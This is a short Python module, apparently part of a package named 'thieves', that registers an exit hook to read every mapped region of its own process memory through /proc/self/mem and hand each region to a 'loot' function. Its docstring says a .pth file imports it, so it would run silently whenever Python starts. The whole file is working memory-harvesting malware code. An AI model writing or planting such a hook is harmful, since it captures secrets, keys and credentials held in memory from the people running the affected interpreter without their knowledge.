"""Takes all memory of its own process when that ends, after it has signed. A .pth file imports this module."""

from __future__ import annotations

import atexit

from system.thieves.loot import take
from system.thieves.processes import mappings


def scan() -> None:
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for start, size in mappings("self"):
            try:
                memory.seek(start)
                take("memory", memory.read(size) or b"")
            except OSError:  # the kernel's own pages
                pass


atexit.register(scan)
